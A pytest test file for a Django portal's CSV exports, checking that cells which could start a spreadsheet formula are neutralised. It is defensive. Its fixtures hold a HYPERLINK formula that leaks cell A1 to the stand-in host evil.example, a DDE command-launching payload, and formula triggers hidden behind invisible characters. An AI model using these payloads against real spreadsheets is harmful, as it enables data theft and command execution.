"""CSV exports cannot carry spreadsheet formulas (docs/security.md, L5; OWASP "CSV Injection"): every cell of
every export goes through one cell function. Text that starts with = + - @ tab or CR (or such a character
after blanks and invisible characters) is prefixed with a single quote and every text cell is quoted;
numbers, negative ones included, are written as numbers."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from django.urls import reverse

from research_portal.analytics.exports import EXPORT_KINDS, csv_cell
from research_portal.capture.models import FrameResult

TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
PANEL_IDS = ["@SUM(1+1)*cmd|' /C calc'!A0", "+49 170 0000", "\t=1+1", " -2+3", "\ufeff=1"]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def first_visible(text: str) -> str:
    for char in text:
        if not (char.isspace() or unicodedata.category(char) in ("Cc", "Cf")):
            return char
    return ""


def is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return cell.strip() == cell and cell.lower() not in {"nan", "inf", "-inf", "+inf", "infinity"}


@pytest.fixture
def hostile(hand_fixture):
    """The hand fixture's ad and participants with hostile names, and a frame error like a formula."""
    ad = hand_fixture.ad
    ad.title = TITLE
    ad.save(update_fields=["title"])
    sessions = list(hand_fixture.study.sessions.order_by("pk"))
    for session, panel_id in zip(sessions, PANEL_IDS, strict=False):
        session.external_participant_id = panel_id
        session.save(update_fields=["external_participant_id"])
    FrameResult.objects.filter(face_found=False).update(error="=1+1")
    return hand_fixture


def exported(client, fixture, kind: str) -> tuple[str, list[list[str]]]:
    url = reverse("analytics:ad-export", args=[fixture.ad.pk, kind]) + "?compare=DE&compare=US"
    response = client.get(url)
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    return text, list(csv.reader(io.StringIO(text)))


def test_no_export_cell_can_start_a_formula(client, analysts, hostile):
    client.force_login(analysts.acme)
    for kind in EXPORT_KINDS:
        text, rows = exported(client, hostile, kind)
        header, body = rows[0], rows[1:]
        assert body, kind
        for row in body:
            for cell in row:
                if not is_number(cell):
                    assert first_visible(cell) not in TRIGGERS and not cell.startswith(TRIGGERS), (kind, cell)
        titles = [row[header.index("ad_title")] for row in body if row[header.index("ad_title")]]
        assert titles and set(titles) == {"'" + TITLE}, kind  # shown in full, never run
        assert '"\'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"' in text  # quoted, quotes doubled


def test_panel_ids_and_frame_errors_are_neutralised_and_numbers_stay_numbers(client, analysts, hostile):
    client.force_login(analysts.acme)
    for kind in ("frames", "seconds"):
        _text, rows = exported(client, hostile, kind)
        header, body = rows[0], rows[1:]
        panel_ids = {row[header.index("participant_id")] for row in body}
        assert panel_ids == {"'" + panel_id for panel_id in PANEL_IDS[:3]}, kind
        valences = [float(row[header.index("valence")]) for row in body if row[header.index("valence")]]
        assert min(valences) < 0, kind  # e.g. -0.6: still a number, no quote in front
    _text, rows = exported(client, hostile, "frames")
    header = rows[0]
    assert {row[header.index("error")] for row in rows[1:] if row[header.index("face_found")] == "0"} == {
        "'=1+1"
    }
    _text, rows = exported(client, hostile, "comparison")
    header = rows[0]
    assert float(rows[1][header.index("difference")]) == pytest.approx(0.3)


@pytest.mark.parametrize(
    "value, cell",
    [
        ("=1+1", '"\'=1+1"'),
        ("+1+1", '"\'+1+1"'),
        ("-1+1", '"\'-1+1"'),
        ("@SUM(A1)", '"\'@SUM(A1)"'),
        ("\t=1", '"\'\t=1"'),
        ("\r=1", '"\'\r=1"'),
        (" \n=1", '"\' \n=1"'),
        ("\u00a0=1", '"\'\u00a0=1"'),
        ("\u200b=1", '"\'\u200b=1"'),
        ("\uff1d1+1", '"\'\uff1d1+1"'),
        ("a;=1+1", '"a;=1+1"'),  # quoted: a `;`-splitting spreadsheet keeps it one cell
        ('say "hi"', '"say ""hi"""'),
        ("DE", '"DE"'),
        ("-0.25", "-0.25"),  # decimal text (as _number writes it) is a number
        ("+3", "+3"),
        ("1e-05", "1e-05"),
        (-0.25, "-0.25"),
        (-3, "-3"),
        (True, "1"),
        (None, ""),
        ("", ""),
    ],
)
def test_the_cell_function(value, cell):
    assert csv_cell(value) == cell
